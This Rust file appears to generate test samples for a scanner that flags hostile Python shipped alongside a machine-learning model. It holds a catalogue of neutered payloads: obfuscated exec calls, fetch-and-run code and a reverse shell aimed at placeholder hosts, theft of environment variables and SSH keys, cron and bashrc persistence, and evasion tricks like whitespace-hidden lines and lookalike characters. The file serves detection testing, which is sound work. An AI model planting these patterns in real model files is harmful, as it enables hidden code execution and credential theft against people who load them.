//! Python beside a model, which a loader runs that trusts it.

use serde_json::json;

use crate::Sample;

/// What a module does when it is imported or its class is made, inert.
const SOURCES: &[(&str, &str)] = &[
    ("system", "import os\nos.system('echo inert')\n"),
    ("system-renamed", "from os import system as s\ns('echo inert')\n"),
    ("system-star", "from os import *\nsystem('echo inert')\n"),
    ("subprocess", "import subprocess\nsubprocess.run(['echo', 'inert'])\n"),
    ("popen", "import subprocess as sp\nsp.Popen('echo inert', shell=True)\n"),
    ("import-call", "__import__('os').system('echo inert')\n"),
    ("importlib", "import importlib\nimportlib.import_module('o' + 's').system('echo inert')\n"),
    ("exec-base64", "import base64\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"),
    (
        "exec-zlib",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK9FQz8xLLSpR1wQAKwIFMw==')))\n",
    ),
    ("exec-hex", "exec(bytes.fromhex('7072696e742827696e6572742729'))\n"),
    ("exec-chr", "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"),
    ("exec-reversed", "exec(\")'treni'(tnirp\"[::-1])\n"),
    ("exec-rot13", "import codecs\nexec(codecs.decode(\"cevag('vareg')\", 'rot13'))\n"),
    (
        "exec-fetched",
        "import urllib.request\nexec(urllib.request.urlopen('http://inert.invalid/x').read())\n",
    ),
    ("exec-requests", "import requests\nexec(requests.get('http://inert.invalid/x').text)\n"),
    ("eval-compile", "eval(compile(\"print('inert')\", 'x', 'exec'))\n"),
    ("marshal", "import marshal, types\ntypes.FunctionType(marshal.loads(b'N'), globals())()\n"),
    ("pickle", "import pickle\npickle.loads(b'cposix\\nsystem\\n(Vecho inert\\ntR.')\n"),
    ("ctypes", "import ctypes\nctypes.CDLL('/nonexistent/inert.so')\n"),
    ("getattr", "import os\ngetattr(os, 'sys' + 'tem')('echo inert')\n"),
    ("builtins-dict", "__builtins__.__dict__['ex' + 'ec'](\"print('inert')\")\n"),
    ("globals-dict", "globals()['__builtins__']['__import__']('os').system('echo inert')\n"),
    (
        "subclasses",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('echo inert')\n",
    ),
    (
        "reverse-shell",
        "import socket, os, pty\ns = socket.socket()\ns.connect(('inert.invalid', 9))\nos.dup2(s.fileno(), 0)\npty.spawn('/nonexistent/sh')\n",
    ),
    (
        "thread",
        "import threading, os\nthreading.Thread(target=os.system, args=('echo inert',)).start()\n",
    ),
    ("atexit", "import atexit, os\natexit.register(os.system, 'echo inert')\n"),
    (
        "in-init",
        "import os\nclass M:\n    def __init__(self, config):\n        os.system('echo inert')\n",
    ),
    ("in-class-body", "import os\nclass M:\n    x = os.popen('echo inert').read()\n"),
    (
        "in-decorator",
        "import os\ndef d(f):\n    os.system('echo inert')\n    return f\n@d\ndef g():\n    pass\n",
    ),
    ("in-default", "def f(x=__import__('os').system('echo inert')):\n    return x\n"),
    ("in-lambda", "(lambda o: o.system('echo inert'))(__import__('os'))\n"),
    (
        "in-metaclass",
        "import os\nclass T(type):\n    def __new__(m, *a):\n        os.system('echo inert')\n        return type.__new__(m, *a)\nclass M(metaclass=T):\n    pass\n",
    ),
    (
        "far-right",
        concat!(
            "x = 1;",
            "                                                                                                                                                                                                                                                                                                   ",
            "__import__('os').system('echo inert')\n"
        ),
    ),
    (
        "environment",
        "import os, urllib.request\nurllib.request.urlopen('http://inert.invalid/?' + str(dict(os.environ)))\n",
    ),
    (
        "keys",
        "import os, requests\nrequests.post('http://inert.invalid/', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
    ),
    ("cron", "open('/etc/cron.d/inert', 'w').write('# inert')\n"),
    ("bashrc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('# inert')\n"),
    (
        "pip",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'inert-package-that-is-not'])\n",
    ),
    ("wide-letters", "import os\nｏｓ.ｓｙｓｔｅｍ('echo inert')\n"),
    ("alias", "e = exec\nf = e\nf(\"print('inert')\")\n"),
    ("f-string", "x = f\"{__import__('os').system('echo inert')}\"\n"),
    ("comprehension", "x = [__import__('os').system('echo inert') for _ in [0]]\n"),
    (
        "made-class",
        "type('X', (), {'__init__': lambda s: __import__('os').system('echo inert')})()\n",
    ),
    ("item-of-a-class", "class X:\n    __class_getitem__ = eval\nX[\"print('inert')\"]\n"),
    ("decorating-exec", "@exec\n@(lambda f: \"print('inert')\")\nclass X:\n    pass\n"),
    ("self-of-print", "print.__self__.exec(\"print('inert')\")\n"),
    ("modules", "import sys\nsys.modules['os'].system('echo inert')\n"),
    ("dict-of-module", "import os\nos.__dict__['sys' 'tem']('echo inert')\n"),
    ("globals-of-lambda", "(lambda: 0).__globals__['__builtins__']['exec'](\"print('inert')\")\n"),
    ("call-of-import", "__import__.__call__('os').system('echo inert')\n"),
    (
        "multiprocessing",
        "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('echo inert',)).start()\n",
    ),
    ("asyncio", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo inert'))\n"),
    ("runpy", "import runpy\nrunpy.run_path('/nonexistent/inert.py')\n"),
    ("exec-of-a-file", "exec(open('/nonexistent/inert.txt').read())\n"),
    (
        "hidden-line",
        "# coding: raw_unicode_escape\n# \\u000aimport os\\u000aos.system('echo inert')\n",
    ),
    ("form-feed", "\x0cimport os\n\x0cos.system('echo inert')\n"),
    (
        "in-conditions",
        concat!("import os\n", "if True:\n    if 1 < 2:\n        os.system('echo inert')\n"),
    ),
    ("walrus", "(e := eval)(\"print('inert')\")\n"),
];

/// All of them.
pub fn samples() -> Vec<Sample> {
    let config = json!({
        "model_type": "inert",
        "auto_map": {"AutoConfig": "modeling_inert.C", "AutoModel": "modeling_inert.M"},
    });
    let mut samples = Vec::new();
    for (what, source) in SOURCES {
        let source = format!("{source}\n\nclass C:\n    pass\n\n\nclass M:\n    pass\n");
        let sample = Sample::malicious("python", "remote code", what, "modeling_inert.py", source);
        samples.push(sample.with("config.json", config.to_string()));
    }
    let named = SOURCES[7].1;
    for name in
        ["tokenization_inert.py", "setup.py", "handler.py", "conftest.py", "sitecustomize.py"]
    {
        let what = format!("named-{name}");
        samples.push(Sample::malicious("python", "remote code", &what, name, named));
    }
    let notebook = json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null, "source": ["import base64\n",
        "exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"]}]});
    samples.push(Sample::malicious(
        "python",
        "notebook",
        "notebook",
        "demo.ipynb",
        notebook.to_string(),
    ));
    let honest = Sample::benign("python", "honest code", "model", "modeling_inert.py", HONEST);
    samples.push(honest.with("config.json", config.to_string()));
    samples
}

const HONEST: &str = r#""""A model of its own kind."""
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel


class C(PretrainedConfig):
    model_type = "inert"

    def __init__(self, width: int = 8, **kwargs):
        self.width = width
        super().__init__(**kwargs)


class M(PreTrainedModel):
    config_class = C

    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.width, config.width)
        self.eval()

    def forward(self, x: Optional[torch.Tensor] = None):
        return torch.softmax(self.layer(x) / math.sqrt(self.config.width), dim=-1)

    @classmethod
    def vocabulary(cls, folder):
        with open(os.path.join(folder, "vocab.txt"), encoding="utf-8") as file:
            return [line.rstrip("\n") for line in file]
"#;
